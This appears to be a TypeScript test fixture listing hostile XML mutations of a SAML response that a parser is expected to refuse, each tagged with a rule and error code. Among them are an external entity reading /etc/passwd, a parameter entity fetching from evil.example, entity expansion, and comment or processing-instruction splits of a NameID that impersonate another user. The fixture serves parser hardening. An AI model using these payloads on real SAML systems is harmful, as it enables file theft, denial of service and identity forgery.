// Documents that two parsers could read differently, or that only cost time: refused by the reader
// (R2-R7).

import { type Attack, type Attacks, all, before, change } from '../attack.ts'

const reader = (
  rule: string,
  refuses: string,
  says: string,
  edit: (xml: string) => string,
): Attack => ({ says, rule, refuses, message: { edit } })

const prefixed =
  (text: string) =>
  (xml: string): string =>
    text + xml
const suffixed =
  (text: string) =>
  (xml: string): string =>
    xml + text
const dtd = (says: string, declaration: string): Attack =>
  reader('R2', 'xml_dtd_forbidden', says, prefixed(declaration))
const name = 'alice@example.org</saml:NameID>'

export const READER: Attacks = {
  'dtd-empty': dtd('A document type, even an empty one.', '<!DOCTYPE Response>'),
  'dtd-external-entity': dtd(
    'An entity that reads a file.',
    '<!DOCTYPE Response [<!ENTITY file SYSTEM "file:///etc/passwd">]>',
  ),
  'dtd-parameter-entity': dtd(
    'A parameter entity that fetches a URL.',
    '<!DOCTYPE Response [<!ENTITY % remote SYSTEM "https://evil.example/"> %remote;]>',
  ),
  'dtd-entity-expansion': dtd(
    'Entities that multiply.',
    '<!DOCTYPE Response [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>',
  ),
  'dtd-default-attribute': dtd(
    'A default that gives elements an ID which is not written.',
    '<!DOCTYPE Response [<!ATTLIST Assertion ID CDATA "_forged">]>',
  ),
  'dtd-inside': reader(
    'R2',
    'xml_dtd_forbidden',
    'A declaration inside the document element.',
    before('<samlp:Status>', '<!ENTITY a "a">'),
  ),
  'entity-undefined': reader(
    'R5',
    'xml_reference_forbidden',
    'A reference to an entity that nobody declared.',
    change(`>${name}`, '>&admin;</saml:NameID>'),
  ),
  'comment-in-name-id': reader(
    'R4',
    'xml_comment_forbidden',
    'A comment cuts the NameID in two: a reader of the first text sees another person.',
    change(`>${name}`, '>alice@example.org<!---->.evil.example</saml:NameID>'),
  ),
  'comment-in-attribute-value': reader(
    'R4',
    'xml_comment_forbidden',
    'A comment in the value of an attribute.',
    change('>admin<', '>ad<!-- -->min<'),
  ),
  'comment-in-signed-info': reader(
    'R4',
    'xml_comment_forbidden',
    'A comment in a DigestValue, which some readers cut off and some join.',
    change('<ds:DigestValue>', '<ds:DigestValue><!--AAAA-->'),
  ),
  'comment-around': reader(
    'R4',
    'xml_comment_forbidden',
    'A comment after the root.',
    suffixed('<!-- -->'),
  ),
  'pi-in-name-id': reader(
    'R4',
    'xml_processing_instruction_forbidden',
    'A processing instruction cuts the NameID in two.',
    change(`>${name}`, '>alice@example.org<?x y?></saml:NameID>'),
  ),
  'pi-in-signed-info': reader(
    'R4',
    'xml_processing_instruction_forbidden',
    'A processing instruction in SignedInfo.',
    before('<ds:SignatureMethod ', '<?x y?>'),
  ),
  'pi-before-root': reader(
    'R4',
    'xml_processing_instruction_forbidden',
    'A style sheet for the document.',
    prefixed('<?xml-stylesheet href="https://evil.example/"?>'),
  ),
  'two-roots': reader('R3', 'xml_malformed', 'A second root.', suffixed('<Response></Response>')),
  'text-after-root': reader('R3', 'xml_malformed', 'Text after the root.', suffixed('x')),
  'text-before-root': reader('R3', 'xml_malformed', 'Text before the root.', prefixed('x')),
  'xml-1-1': reader(
    'R2',
    'xml_declaration_unsupported',
    'XML 1.1, which has other line ends and characters.',
    prefixed('<?xml version="1.1"?>'),
  ),
  'declared-latin-1': reader(
    'R2',
    'xml_declaration_unsupported',
    'Bytes of UTF-8 that claim to be ISO 8859-1.',
    prefixed('<?xml version="1.0" encoding="ISO-8859-1"?>'),
  ),
  'utf-16': {
    ...reader('R2', 'xml_not_utf8', 'The same text in UTF-16.', (xml) => xml),
    encode: (xml) => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(xml, 'utf16le')]),
  },
  'utf-8-overlong': {
    ...reader(
      'R2',
      'xml_not_utf8',
      'A character in an overlong form.',
      change(`>${name}`, '>\u0001</saml:NameID>'),
    ),
    encode: (xml) => {
      const at = Buffer.from(xml).indexOf(1)
      const bytes = Buffer.from(xml)
      return Buffer.concat([
        bytes.subarray(0, at),
        Buffer.from([0xc1, 0x81]),
        bytes.subarray(at + 1),
      ])
    },
  },
  'character-nul': reader(
    'R5',
    'xml_illegal_character',
    'A reference to NUL, where C ends a string.',
    change(`>${name}`, '>alice@example.org&#0;</saml:NameID>'),
  ),
  'character-surrogate': reader(
    'R5',
    'xml_illegal_character',
    'A reference to half a character.',
    change(`>${name}`, '>alice@example.org&#xD800;</saml:NameID>'),
  ),
  'attribute-twice': reader(
    'R5',
    'xml_attribute_duplicate',
    'An ID written twice.',
    change(' ID="_assertion1"', ' ID="_assertion1" ID="_forged"'),
  ),
  'attribute-twice-by-namespace': reader(
    'R5',
    'xml_attribute_duplicate',
    'The same attribute by two prefixes of one namespace.',
    change(
      '<samlp:Status>',
      '<samlp:Status xmlns:a="urn:example:x" xmlns:b="urn:example:x" a:c="1" b:c="2">',
    ),
  ),
  'prefix-unbound': reader(
    'R5',
    'xml_prefix_unbound',
    'A prefix without a namespace.',
    before('<samlp:Status>', '<evil:Assertion></evil:Assertion>'),
  ),
  'prefix-xml-rebound': reader(
    'R5',
    'xml_prefix_reserved',
    'The prefix xml with another meaning.',
    change('<samlp:Status>', '<samlp:Status xmlns:xml="urn:example:x">'),
  ),
  'name-with-two-colons': reader(
    'R5',
    'xml_name_invalid',
    'A name with two colons, which readers split in different places.',
    before('<samlp:Status>', '<samlp:a:Assertion></samlp:a:Assertion>'),
  ),
  'namespace-relative': reader(
    'R6',
    'xml_namespace_name_invalid',
    'A relative namespace name, on which canonicalisers fail and leave nothing to digest.',
    change('<samlp:Status>', '<samlp:Status xmlns:a="relative">'),
  ),
  'namespace-with-ampersand': reader(
    'R6',
    'xml_namespace_name_invalid',
    'A namespace name that canonicalisers write in different ways.',
    change('<samlp:Status>', '<samlp:Status xmlns:a="urn:a&amp;b">'),
  ),
  'namespace-with-quote': reader(
    'R6',
    'xml_namespace_name_invalid',
    'A namespace name that would end its own quotes in an unescaped canonical form.',
    change('<samlp:Status>', '<samlp:Status xmlns:a="urn:a&quot; b=&quot;c">'),
  ),
  deep: reader(
    'R7',
    'xml_too_deep',
    'Elements nested deeper than any message needs.',
    before('<samlp:Status>', '<a>'.repeat(100) + '</a>'.repeat(100)),
  ),
  'many-attributes': reader(
    'R7',
    'xml_too_many_attributes',
    'More attributes on an element than any message needs.',
    change(
      '<samlp:Status>',
      `<samlp:Status${Array.from({ length: 80 }, (_, n) => ` a${n}=""`).join('')}>`,
    ),
  ),
  'many-namespaces': reader(
    'R7',
    'xml_too_many_namespaces',
    'More namespaces than any message needs.',
    before(
      '<samlp:Status>',
      Array.from(
        { length: 9 },
        (_, e) =>
          `<a${Array.from({ length: 50 }, (_, n) => ` xmlns:n${n}="urn:${e}:${n}"`).join('')}/>`,
      ).join(''),
    ),
  ),
  'tag-not-closed': reader(
    'R3',
    'xml_malformed',
    'An end tag that is missing.',
    all(change('</samlp:Status>', '')),
  ),
  'cdata-end-in-text': reader(
    'R5',
    'xml_malformed',
    'The end of a CDATA section in plain text.',
    change('>admin<', '>ad]]>min<'),
  ),
}
